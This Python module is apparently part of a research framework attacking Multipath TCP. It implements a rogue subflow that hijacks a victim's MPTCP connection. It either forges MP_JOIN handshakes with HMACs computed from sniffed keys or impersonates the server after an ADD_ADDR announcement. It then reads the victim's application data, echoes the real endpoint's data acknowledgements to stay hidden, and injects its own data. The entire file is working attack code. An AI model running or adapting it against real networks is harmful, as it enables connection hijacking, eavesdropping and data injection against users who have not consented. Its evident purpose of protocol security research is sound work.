"""A subflow of the victim's MPTCP connection that ends in the attacker's userspace (attacks 1 and 2).

Active (join hijack): the attacker plays the client: MP_JOIN SYN with the server's token, then the third ACK with
HMAC(Key-client || Key-server, R-A || R-B) (RFC 8684 §3.2) computed from the keys it sniffed.
Passive (ADD_ADDR): the attacker plays the server for the join the client opens to the announced address: SYN-ACK
with HMAC(Key-server || Key-client, R-B || R-A)[:8], then checks the client's third-ACK HMAC.

Once established it ACKs whatever the peer sends (with the real endpoint's latest DATA_ACK, so the peer's data
level still waits for the real endpoint), counts the application records it reads, and can send data with a DSS
mapping.
"""

from __future__ import annotations

import os
import struct
import time

from mptcrypt.attacks.common import ACK, FIN, RECORD_RE, RST, SYN, Seg, forge, mptcp_opt, seq_add, seq_after
from mptcrypt.wire.mptcp import Has, MptcpOption, Subtype, join_hmac, mptcp_token

MSS = 1400


class RogueSubflow:
    def __init__(self, agent, role: str, local_port: int, peer_ip: str, peer_port: int, addr_id: int = 66) -> None:
        v = agent.view
        self.agent = agent
        self.role = role  # "initiator" (join hijack) or "responder" (ADD_ADDR)
        self.me = v.me
        self.lport = local_port
        self.peer_ip = peer_ip
        self.pport = peer_port
        self.addr_id = addr_id
        if role == "initiator":  # the attacker stands in for the client
            self.key_local, self.key_peer = v.key_client, v.key_server
        else:  # the attacker stands in for the server
            self.key_local, self.key_peer = v.key_server, v.key_client
        self.isn = struct.unpack("!I", os.urandom(4))[0]
        self.snd_nxt = seq_add(self.isn, 1)
        self.rcv_nxt: int | None = None
        self.peer_isn: int | None = None
        self.r_local = struct.unpack("!I", os.urandom(4))[0]
        self.r_peer: int | None = None
        self.state = "closed"
        self.peer_hmac_ok: bool | None = None
        self.peer_token_ok: bool | None = None
        self.syn_seen_t: float | None = None
        self.established_t: float | None = None
        self.reset_by_peer = False
        self.bytes_in = 0
        self.segments_in = 0
        self.records: dict[str, set[int]] = {"UP": set(), "DN": set()}
        self.bytes_out = 0
        self.sent_syn = 0
        agent.handlers.append(self.on_segment)

    # --- frames ---------------------------------------------------------------------------------------
    def _data_ack(self) -> list:
        """A DSS with the real endpoint's latest DATA_ACK (sniffed on path 1): Linux takes a join subflow as fully
        established only on a segment with a data ACK (net/mptcp/options.c, check_fully_established), and a
        data ACK copied from the real endpoint acknowledges nothing that was not delivered."""
        v = self.agent.view
        dack = v.c2s.data_ack if self.role == "initiator" else v.s2c.data_ack
        return [mptcp_opt(MptcpOption.dss(data_ack=dack))] if dack is not None else []

    def _frame(self, flags: int, options: list, payload: bytes = b"", seq: int | None = None) -> bytes:
        return forge(self.agent.view, self.me, self.peer_ip, self.lport, self.pport,
                     self.snd_nxt if seq is None else seq, self.rcv_nxt or 0, flags, options, payload,
                     window=65535, src_mac=self.agent.tap.mac)

    def connect(self) -> None:
        """initiator: the MP_JOIN SYN (again, if called again)."""
        token = mptcp_token(self.key_peer)
        opts = [("MSS", MSS), ("NOP", None), ("NOP", None), ("SAckOK", b""),
                mptcp_opt(MptcpOption.mpj_syn(token, self.r_local, self.addr_id))]
        self.state = "syn-sent"
        self.sent_syn += 1
        self.agent.send(self._frame(SYN, opts, seq=self.isn), "MP_JOIN SYN", src=f"{self.me}:{self.lport}",
                        dst=f"{self.peer_ip}:{self.pport}", token=f"{token:08x}", nonce=f"{self.r_local:08x}")

    def on_segment(self, seg: Seg) -> None:
        if seg.src != self.peer_ip or seg.dst != self.me or seg.sport != self.pport or seg.dport != self.lport:
            return
        if seg.flags & RST:
            self.reset_by_peer = True
            self.state = "reset"
            return
        join = seg.mp(Subtype.MP_JOIN)
        if self.role == "initiator" and seg.flags & SYN and seg.flags & ACK and join is not None:
            self._on_synack(seg, join)
        elif self.role == "responder" and seg.flags & SYN and not seg.flags & ACK and join is not None:
            self._on_syn(seg, join)
        elif self.role == "responder" and self.state == "syn-rcvd" and join is not None and join.has(Has.HMAC):
            self._on_third_ack(seg, join)
        elif self.state == "established":
            self._on_data(seg)

    def _on_synack(self, seg: Seg, join: MptcpOption) -> None:
        self.peer_isn = seg.seq
        self.rcv_nxt = seq_add(seg.seq, 1)
        self.r_peer = join.nonce
        expect = join_hmac(self.key_peer, self.key_local, self.r_peer, self.r_local)[:8]
        self.peer_hmac_ok = join.thmac == expect
        mac = join_hmac(self.key_local, self.key_peer, self.r_local, self.r_peer)[:20]
        self.agent.send(self._frame(ACK, [mptcp_opt(MptcpOption.mpj_ack(mac))]), "MP_JOIN third ACK",
                        hmac=mac.hex()[:16] + "...", server_hmac_valid=self.peer_hmac_ok)
        self.state = "established"
        self.established_t = time.time()

    def _on_syn(self, seg: Seg, join: MptcpOption) -> None:
        self.syn_seen_t = self.syn_seen_t or seg.t
        self.peer_isn = seg.seq
        self.rcv_nxt = seq_add(seg.seq, 1)
        self.r_peer = join.nonce
        self.peer_token_ok = join.token == mptcp_token(self.key_local)
        thmac = join_hmac(self.key_local, self.key_peer, self.r_local, self.r_peer)[:8]
        opts = [("MSS", MSS), ("NOP", None), ("NOP", None), ("SAckOK", b""),
                mptcp_opt(MptcpOption.mpj_synack(thmac, self.r_local, self.addr_id))]
        self.state = "syn-rcvd"
        self.agent.send(self._frame(SYN | ACK, opts, seq=self.isn), "MP_JOIN SYN-ACK",
                        to=f"{self.peer_ip}:{self.pport}", token_matches=self.peer_token_ok)

    def _on_third_ack(self, seg: Seg, join: MptcpOption) -> None:
        expect = join_hmac(self.key_peer, self.key_local, self.r_peer, self.r_local)[:20]
        self.peer_hmac_ok = join.hmac == expect
        self.state = "established"
        self.established_t = time.time()
        self.agent.send(self._frame(ACK, self._data_ack()), "ACK with DATA_ACK (join fully established)",
                        client_hmac_valid=self.peer_hmac_ok)

    def _on_data(self, seg: Seg) -> None:
        if seg.flags & SYN:  # a retransmitted SYN-ACK: our third ACK was lost
            if self.role == "initiator" and self.r_peer is not None:
                mac = join_hmac(self.key_local, self.key_peer, self.r_local, self.r_peer)[:20]
                self.agent.send(self._frame(ACK, [mptcp_opt(MptcpOption.mpj_ack(mac))]), "MP_JOIN third ACK again")
            return
        if not seg.payload and not seg.flags & FIN:
            return
        self.segments_in += 1
        self.bytes_in += len(seg.payload)
        for m in RECORD_RE.finditer(seg.payload):
            self.records[m.group(1).decode()].add(int(m.group(2)))
        end = seg.end
        if self.rcv_nxt is None or seq_after(end, self.rcv_nxt):
            self.rcv_nxt = end
        self.agent.tap.send(self._frame(ACK, self._data_ack()))  # the real endpoint's data ACK, not ours

    def send_data(self, payload: bytes, dsn: int) -> None:
        """Data on this subflow, mapped at data sequence number `dsn` (64-bit DSS mapping)."""
        rel = (self.snd_nxt - self.isn) & 0xFFFFFFFF
        dack = self._data_ack()
        v = self.agent.view
        ack = v.c2s.data_ack if self.role == "initiator" else v.s2c.data_ack
        dss = MptcpOption.dss(data_ack=ack, data_seq=dsn, subflow_seq=rel, data_len=len(payload)) if dack else \
            MptcpOption.dss(data_seq=dsn, subflow_seq=rel, data_len=len(payload))
        self.agent.send(self._frame(ACK | 0x08, [mptcp_opt(dss)], payload), "data on the rogue subflow",
                        dsn=dsn, subflow_seq=rel, bytes=len(payload))
        self.snd_nxt = seq_add(self.snd_nxt, len(payload))
        self.bytes_out += len(payload)

    def reset(self) -> None:
        """Close the rogue subflow with a RST (the peer then reinjects what it left unacknowledged on it)."""
        self.agent.send(self._frame(RST | ACK, []), "RST on the rogue subflow (done)")
        self.state = "closed-by-attacker"

    def report(self) -> dict:
        return {
            "state": self.state,
            "subflow": f"{self.me}:{self.lport} <-> {self.peer_ip}:{self.pport}",
            "peer_hmac_valid": self.peer_hmac_ok,
            "peer_token_matches": self.peer_token_ok,
            "syns_sent": self.sent_syn,
            "established": self.established_t is not None,
            "reset_by_peer": self.reset_by_peer,
            "bytes_read": self.bytes_in,
            "records_read": {k: len(v) for k, v in self.records.items()},
            "bytes_injected": self.bytes_out,
        }
